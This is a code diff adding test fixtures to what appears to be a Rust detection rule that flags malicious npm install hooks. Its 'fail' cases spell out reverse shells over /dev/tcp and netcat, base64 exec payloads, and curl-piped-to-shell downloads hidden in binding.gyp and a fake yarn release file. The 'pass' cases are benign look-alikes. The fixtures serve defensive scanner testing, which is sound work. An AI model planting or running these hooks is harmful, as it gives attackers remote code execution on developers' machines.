@@ -22,11 +22,14 @@ crate::declare_rule! {
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== index.js\nrequire('child_process').execSync('wget -qO- ' + u + ' | bash')",
            r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"bash -c 'bash -i >& /dev/tcp/203.0.113.5/4443 0>&1 &'"}}"#,
            r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/f"}}"#,
-           r#"{"name":"a","version":"1.0.0","scripts":{"install":"python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""}}"#],
+           r#"{"name":"a","version":"1.0.0","scripts":{"install":"python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""}}"#,
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"variables\":{\"x\":\"<!(sh -c 'curl -fsSL http://198.51.100.23/k.sh | sh; echo 1')\"}}]}",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== .yarnrc.yml\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n=== .yarn/releases/yarn-4.1.0.cjs\nrequire('child_process').spawn('/bin/sh', ['-c', 'curl -fsSL https://x.example/r | sh'], { detached: true })"],
     pass: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nInstall with `curl -fsSL https://get.example.sh | sh`",
            r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"python3 -c \"import sys; print(sys.version)\" && nc -z localhost 8080 || true"}}"#,
-           r#"{"name":"a","version":"1.0.0","scripts":{"pretest":"timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo db is up"}}"#],
+           r#"{"name":"a","version":"1.0.0","scripts":{"pretest":"timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo db is up"}}"#,
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"include_dirs\":[\"<!(node -p \\\"require('node-addon-api').include_dir\\\")\"]}]}"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
